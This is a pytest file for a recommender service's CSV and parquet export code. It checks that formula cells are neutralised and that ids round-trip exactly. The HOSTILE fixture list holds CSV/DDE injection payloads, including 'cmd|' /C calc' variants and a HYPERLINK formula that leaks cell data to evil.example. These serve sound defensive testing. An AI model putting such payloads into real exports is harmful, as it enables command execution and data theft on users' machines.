"""Every way out is safe: formulas neutralised (all the probe's variants), ids exact."""

import io
import re

import numpy as np
import pandas as pd
import pytest

from recsys.service.export import (
    ENCODED_SUFFIX,
    decode_ids,
    needs_protection,
    neutralize_formulas,
    safe_frame,
    table_bytes,
    to_csv_bytes,
    write_table,
)

#: The probe's hostile cells (issue 14) and the variants it found unprotected.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    " =1+1",  # leading space
    "\t=1+1",  # tab
    "\n=1+1",  # newline
    "\r=1+1",  # carriage return
    "\r\n@SUM(1)",
    "\u3000=1+1",  # ideographic space
    "\u00a0+cmd|' /C calc'!A0",  # no-break space
    "\ufeff=1",  # byte-order mark
    "\uff1d1+1",  # full-width =
    "\uff0b1",  # full-width +
    "\uff0d1",  # full-width -
    "\uff20SUM(1)",  # full-width @
    "\t",
]
HARMLESS = ["00123", "-5", "+3.5", " 42 ", "1e-3", "plain text", "a=b", "user@example.com", ""]


def _read(data: bytes) -> pd.DataFrame:
    return pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False, encoding="utf-8-sig")


def _would_run(cell: str) -> bool:
    """What a spreadsheet does with a CSV cell: blanks skipped, then a formula (not a number)."""
    stripped = cell.strip(" \t\r\n\u3000\u00a0\ufeff")
    if not stripped or re.fullmatch(r"[+-]?\d+(\.\d*)?([eE][+-]?\d+)?", stripped):
        return cell[:1] in ("\r", "\n")
    return cell[:1] in ("\t", "\r", "\n") or stripped[:1] in "=+-@\uff1d\uff0b\uff0d\uff20"


def test_every_hostile_text_cell_is_neutralised_and_harmless_ones_are_not():
    risky = needs_protection(pd.Series(HOSTILE + HARMLESS, dtype=object))
    assert risky.tolist() == [True] * len(HOSTILE) + [False] * len(HARMLESS)
    frame = pd.DataFrame({"title": HOSTILE + HARMLESS, "score": np.arange(len(HOSTILE) + 9.0)})
    back = _read(table_bytes(frame))
    assert not any(_would_run(cell) for cell in back["title"])
    assert back["title"].tolist() == ["'" + h for h in HOSTILE] + [h for h in HARMLESS]
    assert frame["title"][0].startswith("=")  # the input is untouched


def test_a_carriage_return_inside_a_cell_cannot_start_a_row():
    """Unquoted, ``x\\r=1+1`` would become a row whose first cell is a formula."""
    frame = pd.DataFrame({"title": ["x\r=1+1", "y\n@SUM(1)"], "n": [1, 2]})
    back = _read(table_bytes(frame))
    assert back["title"].tolist() == ["x\r=1+1", "y\n@SUM(1)"] and len(back) == 2


def test_hostile_ids_round_trip_exactly_and_safely():
    ids = ["00123", "@SUM(1)", '=HYPERLINK("x")', " =1", "\uff1dA", "50%off", "U-7", "\t-5x"]
    items = ["00042", "A-1", "00042", "x", "y", "z", "w", "v"]
    frame = pd.DataFrame({"user_id": ids, "item_id": items, "title": ["ok"] * 8})
    for excel in (False, True):
        back = _read(table_bytes(frame, excel_bom=excel))
        assert list(back.columns) == ["user_id" + ENCODED_SUFFIX, "item_id", "title"]
        assert decode_ids(back["user_id" + ENCODED_SUFFIX]).tolist() == ids  # exact
        assert not any(_would_run(c) for c in back["user_id" + ENCODED_SUFFIX])  # safe
        assert back["item_id"].tolist() == items  # a safe id column is untouched, name and all


def test_ordinary_ids_leave_exactly_as_they_came_in():
    frame = pd.DataFrame(
        {"user_id": ["00123", "-5", "U 1", "小米"], "anchor_item_id": ["00042"] * 4, "rank": 1}
    )
    back = _read(to_csv_bytes(frame))
    assert list(back.columns) == ["user_id", "anchor_item_id", "rank"]
    assert back["user_id"].tolist() == ["00123", "-5", "U 1", "小米"]


def test_column_names_categories_and_extra_id_columns():
    frame = pd.DataFrame(
        {
            "=cmd": ["a", "b"],
            "brand": pd.Categorical(["@x", "ok"]),
            "sku": ["=1", "2"],
            "n": [1, 2],
        }
    )
    back = _read(table_bytes(frame, id_columns=["sku"]))
    assert list(back.columns) == ["'=cmd", "brand", "sku" + ENCODED_SUFFIX, "n"]
    assert back["brand"].tolist() == ["'@x", "ok"]
    assert decode_ids(back["sku" + ENCODED_SUFFIX]).tolist() == ["=1", "2"]
    safe = safe_frame(frame.set_index(pd.Index([7, 7])))  # duplicate labels are fine
    assert safe["brand"].tolist() == ["'@x", "ok"]


def test_neutralize_formulas_missing_values_and_numbers():
    frame = pd.DataFrame({"t": ["=1", None, np.nan, "x"], "v": [1.0, np.nan, -3.0, 4.0]})
    out = neutralize_formulas(frame)
    assert out["t"].tolist()[0] == "'=1" and pd.isna(out["t"][1]) and out["t"][3] == "x"
    pd.testing.assert_series_equal(out["v"], frame["v"])


def test_csv_bom_and_chinese_round_trip():
    frame = pd.DataFrame({"user_id": ["007"], "title": ["小米 14 手机"]})
    data = to_csv_bytes(frame, excel_bom=True)
    assert data.startswith(b"\xef\xbb\xbf")
    back = pd.read_csv(io.BytesIO(data), dtype=str, encoding="utf-8-sig")
    assert back["user_id"][0] == "007" and back["title"][0] == "小米 14 手机"
    assert not to_csv_bytes(frame).startswith(b"\xef\xbb\xbf")


def test_parquet_keeps_every_value_exactly(tmp_path):
    frame = pd.DataFrame({"user_id": ["001", "=1"], "title": ["@SUM(1)", "x"], "rank": [1, 2]})
    back = pd.read_parquet(io.BytesIO(table_bytes(frame, "parquet")))
    pd.testing.assert_frame_equal(back, frame)
    path = write_table(frame, tmp_path / "out" / "recs.csv")
    assert path.read_text().splitlines()[1] == "001,'@SUM(1),1"
    assert [p.name for p in path.parent.iterdir()] == ["recs.csv"]  # no temp file left behind


def test_unknown_format_is_refused():
    from recsys.errors import ConfigError

    with pytest.raises(ConfigError):
        table_bytes(pd.DataFrame({"a": [1]}), "xlsx")
